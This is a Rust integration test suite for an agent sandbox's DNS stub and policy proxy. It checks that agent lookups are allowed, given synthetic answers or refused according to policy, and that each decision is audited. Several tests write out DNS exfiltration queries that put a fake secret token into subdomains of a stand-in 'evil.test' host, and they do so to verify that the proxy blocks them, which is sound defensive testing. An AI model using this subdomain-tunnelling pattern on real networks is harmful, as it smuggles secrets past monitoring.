//! Root end-to-end tests of the agent's DNS stub: a real agent uid whose DNS the daemon's
//! nftables table redirects into the stub, real clients (getent, dig, python, ssh), and the
//! proxy's upstream resolver (dnsmasq, logging every query it gets) inside a network
//! namespace this test creates. Without root they print why they skip; with CI=true a skip
//! is a failure.
//!
//! Network safety: every agent command runs in a private mount namespace whose
//! /etc/resolv.conf names an address inside the test's namespace, so even a query the
//! redirect missed could not reach the machine's own resolver.
#![cfg(target_os = "linux")]

use std::io::{BufRead, BufReader, Write};
use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use agenshield_e2e::audit::{assert_matches_schema, lines};
use agenshield_e2e::daemon::{Daemon, DaemonOptions};
use agenshield_e2e::netlab::{root_or_skip, AgentUser, Internet};
use serde_json::Value;

const SECRET: &str = "ghps3cr3tvalue0123456789abcdef";

const POLICY: &str = r#"
version = 1
default = "deny"

[[rule]]
id = "web"
hosts = ["allowed.test", "other.test", "internal.test"]
schemes = ["https"]
action = "allow"

[[rule]]
id = "git-ssh"
hosts = ["git.test"]
ports = [22]
schemes = ["tcp"]
action = "allow"
"#;

struct Lab {
    daemon: Daemon,
    net: Internet,
    user: AgentUser,
    other: Option<AgentUser>,
    resolver: Resolver,
    /// What the agent's ssh said to the netns server on git.test:22.
    banners: Arc<Mutex<Vec<String>>>,
    share: tempfile::TempDir,
}

/// dnsmasq inside the namespace: authoritative for the test names, forwarding nothing,
/// logging every query it receives.
struct Resolver {
    child: std::process::Child,
    log: std::path::PathBuf,
}

impl Resolver {
    fn queries(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for Resolver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A second agent (a user of its own, its DNS redirected too) and the policy text for both,
/// given both uids.
type Second = fn(u32, u32) -> String;

/// What a lab runs with besides the defaults.
#[derive(Default)]
struct Setup {
    second: Option<Second>,
    /// The policy (default: [`POLICY`]).
    policy: Option<&'static str>,
    /// `[dns]` lines.
    dns: Vec<String>,
}

impl Lab {
    fn new() -> Lab {
        Lab::build(Setup::default())
    }

    fn with(second: Option<Second>) -> Lab {
        Lab::build(Setup {
            second,
            ..Setup::default()
        })
    }

    fn build(setup: Setup) -> Lab {
        let second = setup.second;
        let tag = std::process::id() % 97 + 3;
        let user = AgentUser::create(tag);
        let other = second.map(|_| AgentUser::create(tag + 100));
        let net = Internet::create();
        let share = tempfile::tempdir().expect("tempdir");
        std::fs::set_permissions(share.path(), std::fs::Permissions::from_mode(0o755))
            .expect("chmod");
        // The agent's resolver: an address in the namespace where nothing answers DNS.
        std::fs::write(
            share.path().join("resolv.conf"),
            format!("nameserver {}\noptions timeout:2 attempts:1\n", net.b4),
        )
        .expect("resolv.conf");

        let log = share.path().join("dnsmasq.log");
        net.assert_route(net.a4);
        let child = Command::new("ip")
            .args(["netns", "exec", &net.ns, "dnsmasq", "--keep-in-foreground"])
            .args([
                "--no-resolv",
                "--no-hosts",
                "--no-poll",
                "--bind-interfaces",
            ])
            .arg(format!("--listen-address={}", net.a4))
            .args(["--port=53", "--user=root", "--pid-file=", "--log-queries"])
            .arg(format!("--log-facility={}", log.display()))
            .arg(format!("--host-record=allowed.test,{},{}", net.a4, net.a6))
            .arg(format!("--host-record=other.test,{},{}", net.b4, net.b6))
            .arg(format!("--host-record=git.test,{}", net.a4))
            .arg("--host-record=internal.test,192.168.77.7")
            .arg(format!("--host-record=bonly.test,{}", net.a4))
            .arg(format!("--host-record=held.test,{}", net.a4))
            .arg("--txt-record=allowed.test,\"v=test\"")
            .spawn()
            .expect("dnsmasq (apt-get install dnsmasq-base)");
        let resolver = Resolver { child, log };

        let banners = Arc::new(Mutex::new(Vec::new()));
        let ssh = net
            .bind_tcp(&[SocketAddr::new(net.a4, 22)])
            .pop()
            .expect("listener");
        let seen = banners.clone();
        std::thread::spawn(move || {
            for conn in ssh.incoming().flatten() {
                let mut conn = conn;
                let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
                let _ = conn.write_all(b"SSH-2.0-AgenShieldTest\r\n");
                let mut line = String::new();
                let _ = BufReader::new(&conn).read_line(&mut line);
                seen.lock().expect("lock").push(line.trim().to_string());
            }
        });

        let policy = match (second, &other) {
            (Some(text), Some(o)) => text(user.uid, o.uid),
            _ => setup.policy.unwrap_or(POLICY).to_string(),
        };
        let daemon = Daemon::start(DaemonOptions {
            policies: vec![("main.toml".into(), policy)],
            nameservers: vec![format!("{}:53", net.a4)],
            allow_private: vec![net.net4.clone(), net.net6.clone()],
            secrets: vec![("GH_TOKEN".into(), SECRET.into())],
            ipv6: true,
            redirect_uid: Some(user.uid),
            agent_uids: other.iter().map(|o| o.uid).collect(),
            approvals_timeout: Some("1s".into()),
            dns: setup.dns,
            ..Default::default()
        });
        let lab = Lab {
            daemon,
            net,
            user,
            other,
            resolver,
            banners,
            share,
        };
        // dnsmasq is up once it answers the proxy (root is never redirected).
        let deadline = Instant::now() + Duration::from_secs(10);
        while !lab.resolver.queries().contains("started") && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
        lab
    }

    /// Runs `script` as the agent, with /etc/resolv.conf replaced by ours.
    fn agent(&self, script: &str) -> Output {
        self.agent_as(&self.user, script)
    }

    /// Runs `script` as `user`, with /etc/resolv.conf replaced by ours.
    fn agent_as(&self, user: &AgentUser, script: &str) -> Output {
        let resolv = self.share.path().join("resolv.conf");
        let prefix = user.as_agent().join(" ");
        let inner = format!(
            "mount --bind {} /etc/resolv.conf && exec {prefix} bash -c {}",
            resolv.display(),
            shell_quote(script)
        );
        Command::new("unshare")
            .args(["--mount", "--", "bash", "-c", &inner])
            .output()
            .expect("agent command")
    }

    fn dig(&self, args: &str) -> (String, String) {
        self.dig_as(&self.user, args)
    }

    fn dig_as(&self, user: &AgentUser, args: &str) -> (String, String) {
        let out = self.agent_as(user, &format!("dig +time=3 +tries=1 {args}"));
        let text = String::from_utf8_lossy(&out.stdout).to_string();
        let status = text
            .split("status: ")
            .nth(1)
            .and_then(|s| s.split(',').next())
            .unwrap_or("(no answer)")
            .to_string();
        (status, text)
    }

    /// The daemon's CA where the agent can read it (for `curl --cacert`).
    fn agent_ca(&self) -> std::path::PathBuf {
        let ca = self.share.path().join("agenshield-ca.pem");
        std::fs::copy(&self.daemon.ca_path, &ca).expect("copy CA");
        std::fs::set_permissions(&ca, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        ca
    }

    fn dns_records(&self) -> Vec<Value> {
        lines(&self.daemon.audit_path())
            .into_iter()
            .filter(|v| v["protocol"] == "dns")
            .collect()
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        self.daemon.kill9();
        let _ = Command::new("nft")
            .args(["delete", "table", "inet", "agenshield"])
            .output();
    }
}

/// Whether `text` (trimmed) is one address in the synthetic range, 198.18.0.0/15.
fn is_synthetic(text: &str) -> bool {
    let first = text.split_whitespace().next().unwrap_or("");
    first
        .parse::<std::net::Ipv4Addr>()
        .is_ok_and(|ip| ip.octets()[..2] == [198, 18] || ip.octets()[..2] == [198, 19])
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn the_agent_resolves_only_what_policy_allows_and_raw_tcp_is_decided_by_name() {
    let Some(_serial) = root_or_skip("dns_stub") else {
        return;
    };
    let lab = Lab::new();
    let (a4, b4, b6) = (lab.net.a4, lab.net.b4, lab.net.b6);
    for ip in [a4, b4, b6] {
        lab.net.assert_route(ip);
    }

    // An allowed name resolves, through every client the agent's tools use.
    let out = lab.agent("getent ahostsv4 allowed.test");
    assert!(
        text(&out).contains(&a4.to_string()),
        "getent: {}",
        text(&out)
    );
    let out = lab.agent(
        "python3 -c 'import socket; print(sorted({a[4][0] for a in socket.getaddrinfo(\"allowed.test\", 443)}))'",
    );
    assert!(
        text(&out).contains(&a4.to_string()),
        "python: {}",
        text(&out)
    );
    // UDP and TCP 53 to any address, v4 and v6, end at the stub (nothing serves DNS on
    // the other.test host b4/b6, and the agent's own resolv.conf names b4).
    for server in [format!("@{b4}"), format!("@{b6}"), format!("@{a4}")] {
        for transport in ["+notcp", "+tcp"] {
            let (status, out) = lab.dig(&format!("{server} {transport} allowed.test A"));
            assert_eq!(status, "NOERROR", "{server} {transport}: {out}");
            assert!(out.contains(&a4.to_string()), "{server} {transport}: {out}");
        }
    }
    let (status, out) = lab.dig(&format!("@{b4} allowed.test TXT"));
    assert_eq!(status, "NOERROR", "{out}");
    assert!(out.contains("v=test"), "{out}");
    assert!(
        lab.resolver.queries().contains("query[A] allowed.test"),
        "the proxy asked its resolver: {}",
        lab.resolver.queries()
    );

    // An unlisted name: a synthetic address, answered locally (the connection that follows
    // is refused with a reason); the resolver never hears of it.
    let (status, out) = lab.dig(&format!("@{b4} unlisted.test A"));
    assert_eq!(status, "NOERROR", "{out}");
    assert!(
        out.contains("EDE: 15 (Blocked): (no rule allows unlisted.test)"),
        "{out}"
    );
    let out = lab.agent("getent hosts unlisted.test");
    assert!(is_synthetic(&text(&out)), "{}", text(&out));
    // A secret's value in a name (a classic exfiltration): refused, recorded, never sent.
    let (status, out) = lab.dig(&format!("@{b4} {SECRET}.exfil.evil.test TXT"));
    assert_eq!(status, "REFUSED", "{out}");
    let (status, out) = lab.dig(&format!("@{b4} +tcp {SECRET}.allowed.test A"));
    assert_eq!(status, "REFUSED", "{out}");
    // Allowed by policy, but the address is one the proxy would never dial.
    let (status, out) = lab.dig(&format!("@{b4} internal.test A"));
    assert_eq!(status, "REFUSED", "{out}");
    // A question type the stub does not answer.
    let (status, out) = lab.dig(&format!("@{b4} allowed.test NS"));
    assert_eq!(status, "REFUSED", "{out}");
    let queries = lab.resolver.queries();
    for leaked in ["unlisted.test", SECRET, "evil.test", "query[NS]"] {
        assert!(
            !queries.contains(leaked),
            "the resolver saw {leaked}:\n{queries}"
        );
    }

    // ssh to a name only a tcp rule allows: the agent resolves git.test through the stub,
    // connects to its address, and the proxy decides the connection by the name.
    let ssh = "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
               -o ConnectTimeout=5 -o LogLevel=ERROR git@git.test true; true";
    let out = lab.agent(ssh);
    let deadline = Instant::now() + Duration::from_secs(5);
    while lab.banners.lock().expect("lock").is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let banners = lab.banners.lock().expect("lock").clone();
    assert!(
        banners.iter().any(|b| b.starts_with("SSH-2.0-OpenSSH")),
        "ssh reached the server through the proxy: {banners:?} / {}",
        text(&out)
    );
    // The same port on a name with no tcp rule is refused, and its record names the host.
    let out = lab.agent(
        "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
         -o ConnectTimeout=5 -o LogLevel=ERROR git@other.test true; true",
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(lab.banners.lock().expect("lock").len(), 1, "{}", text(&out));

    // Records: what was decided, by whom, in the audit log's one shape.
    let audit = lines(&lab.daemon.audit_path());
    assert_matches_schema(&audit);
    let tcp: Vec<&Value> = audit
        .iter()
        .filter(|v| v["protocol"] == "tcp" && v["port"] == 22 && v["kind"] == "connection")
        .collect();
    let by_host = |h: &str| tcp.iter().find(|v| v["host"] == h).copied();
    let allowed = by_host("git.test").unwrap_or_else(|| panic!("git.test: {tcp:?}"));
    assert_eq!(allowed["decision"], "allow", "{allowed}");
    assert_eq!(allowed["rule"], "git-ssh", "{allowed}");
    assert_eq!(allowed["dst"], format!("{a4}:22"), "{allowed}");
    assert_eq!(allowed["agent_uid"], lab.user.uid, "{allowed}");
    let refused = by_host("other.test").unwrap_or_else(|| panic!("other.test: {tcp:?}"));
    assert_eq!(refused["decision"], "deny", "{refused}");

    let dns = lab.dns_records();
    let find = |host: &str, rcode: &str| {
        dns.iter()
            .find(|v| {
                v["host"].as_str().is_some_and(|h| h.contains(host)) && v["dns"]["rcode"] == rcode
            })
            .unwrap_or_else(|| panic!("no {host} {rcode} record in {dns:#?}"))
    };
    let ok = find("allowed.test", "NOERROR");
    assert_eq!(ok["decision"], "allow");
    assert_eq!(ok["kind"], "query");
    assert_eq!(ok["rule"], "web");
    assert_eq!(ok["agent_uid"], lab.user.uid);
    assert_eq!(ok["dns"]["answers"][0], a4.to_string());
    let nx = find("unlisted.test", "NOERROR");
    assert_eq!(nx["decision"], "deny");
    assert_eq!(nx["error_code"], "policy_denied");
    assert!(
        is_synthetic(nx["dns"]["answers"][0].as_str().unwrap_or("")),
        "{nx}"
    );
    let leak = find("exfil.evil.test", "REFUSED");
    assert_eq!(leak["error_code"], "secret_leak");
    let forbidden = find("internal.test", "REFUSED");
    assert_eq!(forbidden["error_code"], "destination_forbidden");
    let ns = dns
        .iter()
        .find(|v| v["dns"]["qtype"] == "NS")
        .expect("NS record");
    assert_eq!(ns["error_code"], "query_type_refused");
    // An allowed name is recorded once per TTL, however often it is asked.
    let allowed_a = dns
        .iter()
        .filter(|v| {
            v["host"] == "allowed.test"
                && v["dns"]["qtype"] == "A"
                && v["agent_uid"] == lab.user.uid
        })
        .count();
    assert_eq!(allowed_a, 1, "{dns:#?}");
    // No secret value anywhere in what the daemon wrote.
    let written = std::fs::read_to_string(lab.daemon.audit_path()).expect("audit");
    assert!(!written.contains(SECRET));
    assert!(!lab.daemon.logs().contains(SECRET));

    // Metrics count every question, recorded or not.
    let metrics = reqwest_metrics(lab.daemon.metrics);
    assert!(
        metrics.contains("agenshield_proxy_dns_queries_total{decision=\"deny\",rcode=\"NOERROR\"}"),
        "{metrics}"
    );
}

/// Names are decided for the agent that asks: another agent's rule resolves nothing for it,
/// and a name only an `ask` rule covers is answered with a synthetic address that no
/// resolver hears of; the connection to it comes back to the proxy, which asks the
/// operator (and with no answer, refuses with the rule named).
#[test]
fn names_are_decided_for_the_asking_agent_and_ask_names_reach_no_resolver() {
    let Some(_serial) = root_or_skip("dns_per_agent") else {
        return;
    };
    fn policy(_a: u32, b: u32) -> String {
        format!(
            r#"version = 1
default = "deny"

[[rule]]
id = "b-only"
hosts = ["bonly.test"]
agents = [{b}]
action = "allow"

[[rule]]
id = "held"
hosts = ["held.test", "*.held.test"]
action = "ask"
"#
        )
    }
    let lab = Lab::with(Some(policy));
    let b = lab.other.as_ref().expect("second agent");
    let b4 = lab.net.b4;
    lab.net.assert_route(b4);

    // Agent A asks for a name only B's rule allows: refused (a synthetic address, not the
    // name's), and the resolver never hears.
    let (status, out) = lab.dig(&format!("@{b4} +short bonly.test A"));
    assert_eq!(status, "(no answer)", "{out}");
    assert!(is_synthetic(&out), "{out}");
    assert!(
        !lab.resolver.queries().contains("bonly.test"),
        "{}",
        lab.resolver.queries()
    );
    // B gets it, from the resolver.
    let (status, out) = lab.dig_as(b, &format!("@{b4} bonly.test A"));
    assert_eq!(status, "NOERROR", "{out}");
    assert!(out.contains(&lab.net.a4.to_string()), "{out}");

    // A name under the ask rule, carrying data: a synthetic address, answered here.
    let (status, out) = lab.dig(&format!("@{b4} +short c2VjcmV0.held.test A"));
    assert_eq!(
        status, "(no answer)",
        "+short prints only the address: {out}"
    );
    let synthetic = out.trim().to_string();
    assert!(
        synthetic.starts_with("198.18.") || synthetic.starts_with("198.19."),
        "{out}"
    );
    let (status, out) = lab.dig(&format!("@{b4} held.test AAAA"));
    assert_eq!(status, "NOERROR", "{out}");
    assert!(!out.contains("AAAA\t"), "no IPv6 answer: {out}");
    // The agent connects by name: the connection to the synthetic address comes back to
    // the proxy, which asks an operator; none answers within the timeout: refused, naming
    // the rule.
    let ca = lab.agent_ca();
    let out = lab.agent(&format!(
        "curl -s --max-time 20 --cacert {} https://held.test/",
        ca.display()
    ));
    let body = String::from_utf8_lossy(&out.stdout).to_string();
    let v: Value =
        serde_json::from_str(&body).unwrap_or_else(|_| panic!("JSON 403: {}", text(&out)));
    assert_eq!(v["rule_id"], "held", "{v}");
    // No resolver ever heard of a name under the ask rule.
    let queries = lab.resolver.queries();
    assert!(!queries.contains("held.test"), "{queries}");

    let audit = lines(&lab.daemon.audit_path());
    assert_matches_schema(&audit);
    let dns = lab.dns_records();
    let q = dns
        .iter()
        .find(|v| v["host"] == "c2vjcmv0.held.test" || v["host"] == "c2VjcmV0.held.test")
        .unwrap_or_else(|| panic!("{dns:#?}"));
    assert_eq!(q["rule"], "held", "{q}");
    assert_eq!(q["dns"]["answers"][0], synthetic, "{q}");
    let req = audit
        .iter()
        .find(|v| v["kind"] == "request" && v["host"] == "held.test")
        .unwrap_or_else(|| panic!("{audit:#?}"));
    assert_eq!(req["decision"], "ask_timeout", "{req}");
    assert_eq!(req["agent_uid"], lab.user.uid, "{req}");
    // The address the agent connected to is the synthetic one the stub gave for held.test.
    let dst = req["dst"].as_str().unwrap_or("");
    assert!(dst.starts_with("198.18."), "{req}");
    assert_ne!(
        dst,
        format!("{synthetic}:443"),
        "one address per name: {req}"
    );
}

/// A policy with a default deny and an explicit deny rule.
const DENY_POLICY: &str = r#"
version = 1
default = "deny"

[[rule]]
id = "web"
hosts = ["allowed.test"]
schemes = ["https"]
action = "allow"

[[rule]]
id = "no-paste"
hosts = ["paste.test"]
action = "deny"
"#;

/// A name no rule allows is answered (without asking any resolver) with a synthetic address,
/// so the agent's curl connects, comes back through the redirect and gets the JSON 403 that
/// names the rule, instead of "Could not resolve host". The DNS refusal and the request's
/// refusal are both recorded, and `ctl policy suggest` drafts from the DNS refusals too:
/// one rule per host, none for what an explicit deny refused.
#[test]
fn a_denied_name_is_answered_so_that_its_connection_is_refused_naming_the_rule() {
    let Some(_serial) = root_or_skip("dns_denied_synthetic") else {
        return;
    };
    let lab = Lab::build(Setup {
        policy: Some(DENY_POLICY),
        ..Setup::default()
    });
    let b4 = lab.net.b4;
    lab.net.assert_route(b4);
    let ca = lab.agent_ca();
    let refusal = |url: &str| -> Value {
        let out = lab.agent(&format!(
            "curl -s --max-time 15 --cacert {} {url}",
            ca.display()
        ));
        let body = String::from_utf8_lossy(&out.stdout).to_string();
        serde_json::from_str(&body)
            .unwrap_or_else(|_| panic!("a JSON refusal for {url}: {}", text(&out)))
    };
    let v = refusal("https://denied.test/");
    assert_eq!(v["error_code"], "policy_denied", "{v}");
    assert_eq!(v["rule_id"], "default", "{v}");
    assert!(
        v["message"].as_str().unwrap_or("").contains("denied.test"),
        "{v}"
    );
    let v = refusal("https://paste.test/upload");
    assert_eq!(v["rule_id"], "no-paste", "{v}");
    let v = refusal("http://denied.test/plain");
    assert_eq!(v["error_code"], "policy_denied", "{v}");
    // A name only looked up.
    let out = lab.agent("getent hosts lookedup.test");
    assert!(is_synthetic(&text(&out)), "{}", text(&out));
    // dig says why, and an AAAA question gets an empty answer (as for `ask` names).
    let (status, out) = lab.dig(&format!("@{b4} paste.test A"));
    assert_eq!(status, "NOERROR", "{out}");
    assert!(
        out.contains("EDE: 15 (Blocked): (denied by rule no-paste)"),
        "{out}"
    );
    let (status, out) = lab.dig(&format!("@{b4} denied.test AAAA"));
    assert_eq!(status, "NOERROR", "{out}");
    assert!(!out.contains("AAAA\t"), "no IPv6 answer: {out}");
    let queries = lab.resolver.queries();
    for name in ["denied.test", "paste.test", "lookedup.test"] {
        assert!(
            !queries.contains(name),
            "the resolver saw {name}:\n{queries}"
        );
    }

    // Both decisions recorded: the DNS refusal (with the address it answered) and the
    // refusal of the connection to that address.
    let audit = lines(&lab.daemon.audit_path());
    assert_matches_schema(&audit);
    for (host, rule) in [("denied.test", "default"), ("paste.test", "no-paste")] {
        let q = audit
            .iter()
            .find(|v| v["kind"] == "query" && v["host"] == host && v["dns"]["qtype"] == "A")
            .unwrap_or_else(|| panic!("no A query record for {host}: {audit:#?}"));
        assert_eq!(q["decision"], "deny", "{q}");
        assert_eq!(q["error_code"], "policy_denied", "{q}");
        assert_eq!(q["rule"], rule, "{q}");
        assert_eq!(q["dns"]["rcode"], "NOERROR", "{q}");
        assert_eq!(q["agent_uid"], lab.user.uid, "{q}");
        let addr = q["dns"]["answers"][0].as_str().unwrap_or("").to_string();
        assert!(is_synthetic(&addr), "{q}");
        let req = audit
            .iter()
            .find(|v| v["kind"] == "request" && v["host"] == host && v["protocol"] == "https")
            .unwrap_or_else(|| panic!("no request record for {host}: {audit:#?}"));
        assert_eq!(req["decision"], "deny", "{req}");
        assert_eq!(req["rule"], rule, "{req}");
        assert_eq!(req["status"], 403, "{req}");
        assert_eq!(req["dst"], format!("{addr}:443"), "{req}");
        assert_eq!(req["agent_uid"], lab.user.uid, "{req}");
    }

    // suggest drafts from DNS refusals too: one rule per host whether it was refused as a
    // name, a request or both; nothing for what an explicit deny refused.
    let (code, draft, err) = lab.daemon.ctl(&[], &["policy", "suggest"]);
    assert_eq!(code, 0, "{draft}{err}");
    assert_eq!(
        draft.matches("hosts = [\"denied.test\"]").count(),
        1,
        "{draft}"
    );
    assert!(draft.contains("hosts = [\"lookedup.test\"]"), "{draft}");
    assert!(!draft.contains("hosts = [\"paste.test\"]"), "{draft}");
    assert!(
        draft
            .lines()
            .any(|l| l.starts_with('#') && l.contains("paste.test") && l.contains("no-paste")),
        "the explicit deny is named: {draft}"
    );
}

/// `dns.denied = "nxdomain"`: a name no rule allows is NXDOMAIN, still answered locally, with
/// an Extended DNS Error (RFC 8914, 15 Blocked) naming the rule for clients that send EDNS.
#[test]
fn dns_denied_nxdomain_answers_nxdomain_with_an_extended_dns_error() {
    let Some(_serial) = root_or_skip("dns_denied_nxdomain") else {
        return;
    };
    let lab = Lab::build(Setup {
        policy: Some(DENY_POLICY),
        dns: vec!["denied = \"nxdomain\"".into()],
        ..Setup::default()
    });
    let b4 = lab.net.b4;
    lab.net.assert_route(b4);
    let (status, out) = lab.dig(&format!("@{b4} denied.test A"));
    assert_eq!(status, "NXDOMAIN", "{out}");
    assert!(
        out.contains("EDE: 15 (Blocked): (no rule allows denied.test)"),
        "{out}"
    );
    let (status, out) = lab.dig(&format!("@{b4} +tcp paste.test A"));
    assert_eq!(status, "NXDOMAIN", "{out}");
    assert!(
        out.contains("EDE: 15 (Blocked): (denied by rule no-paste)"),
        "{out}"
    );
    // Without EDNS in the query there is nowhere to put it.
    let (status, out) = lab.dig(&format!("@{b4} +noedns denied.test A"));
    assert_eq!(status, "NXDOMAIN", "{out}");
    assert!(!out.contains("EDE"), "{out}");
    // The agent's tools fail the lookup, as before.
    let out = lab.agent("curl -s --max-time 10 https://denied.test/; echo exit=$?");
    assert!(text(&out).contains("exit=6"), "{}", text(&out));
    let queries = lab.resolver.queries();
    assert!(!queries.contains("denied.test"), "{queries}");
    let dns = lab.dns_records();
    let q = dns
        .iter()
        .find(|v| v["host"] == "paste.test")
        .unwrap_or_else(|| panic!("{dns:#?}"));
    assert_eq!(q["dns"]["rcode"], "NXDOMAIN", "{q}");
    assert_eq!(q["decision"], "deny", "{q}");
    assert_eq!(q["rule"], "no-paste", "{q}");
    assert!(
        q["dns"]["answers"].as_array().is_some_and(|a| a.is_empty()),
        "{q}"
    );
}

/// `/metrics` over a plain loopback socket.
fn reqwest_metrics(addr: SocketAddr) -> String {
    let mut s = std::net::TcpStream::connect(addr).expect("metrics");
    s.write_all(b"GET /metrics HTTP/1.1\r\nHost: m\r\nConnection: close\r\n\r\n")
        .expect("write");
    let mut out = String::new();
    std::io::Read::read_to_string(&mut s, &mut out).expect("read");
    out
}
